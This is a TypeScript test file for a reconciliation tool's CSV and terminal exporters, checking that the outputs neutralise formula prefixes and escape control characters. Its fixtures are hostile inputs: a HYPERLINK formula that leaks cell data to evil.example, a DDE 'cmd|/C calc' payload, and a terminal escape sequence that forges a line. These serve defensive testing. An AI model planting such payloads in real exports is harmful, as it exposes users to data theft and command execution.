/** Exports and terminal text carry table data as data: CSV cells never become formulas, control characters show. */
import { strict as assert } from 'node:assert';
import { formatRepair, formatTable, keyLabel, toCsv } from '../../server/src/reconcile/format';
import { sampleReport } from './report-fixture';

describe('reconcile exports: table data stays data', () => {
  it('CSV neutralises formula prefixes (=, +, -, @, tab, CR) in text cells, keeps computed numbers', () => {
    const report = sampleReport({
      drifted: [
        { key: { PK: '=HYPERLINK("https://evil.example/?"&A1,"click")', SK: 'META' }, stored: 1, actual: 4, drift: 3 },
        { key: { PK: '+cmd|/C calc!A0', SK: '-META' }, stored: 5, actual: 3, drift: -2, note: '@SUM(1+1)' },
        { key: { PK: '\tTAB', SK: '\rCR' }, stored: null, actual: 2, drift: 2 },
        { key: { PK: -7, SK: 'META' }, stored: 2, actual: 0, drift: -2 },
      ],
      orphans: [],
    });
    assert.equal(
      toCsv(report),
      'PK,SK,stored,actual,drift,note\n' +
        `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",META,1,4,3,\n` +
        `'+cmd|/C calc!A0,'-META,5,3,-2,'@SUM(1+1)\n` +
        `'\tTAB,"'\rCR",,2,2,\n` +
        '-7,META,2,0,-2,\n',
    );
  });

  it('CSV neutralises hostile key attribute names in the header too', () => {
    const csv = toCsv({ drifted: [{ key: { '=cmd()': 'a' }, stored: 1, actual: 2, drift: 1 }] });
    assert.equal(csv.split('\n')[0], "'=cmd(),stored,actual,drift,note");
  });

  it('terminal text shows control characters in keys instead of sending them to the terminal', () => {
    const key = { PK: 'POST#\u001b]8;;https://evil.example\u0007x\nforged line', SK: 'META' };
    assert.equal(keyLabel(key), 'PK=POST#\\u001b]8;;https://evil.example\\u0007x\\u000aforged line SK=META');
    const table = formatTable(sampleReport({ drifted: [{ key, stored: 1, actual: 2, drift: 1 }], orphans: [] }));
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u0000-\u0009\u000b-\u001f]/.test(table));
    const repaired = formatRepair({ results: [{ key, outcome: { status: 'repaired', from: 1, to: 2 } }], written: 1, consumedRcu: 1, consumedWcu: 1, elapsedMs: 1 });
    assert.equal(repaired.split('\n').length, 2);
  });
});
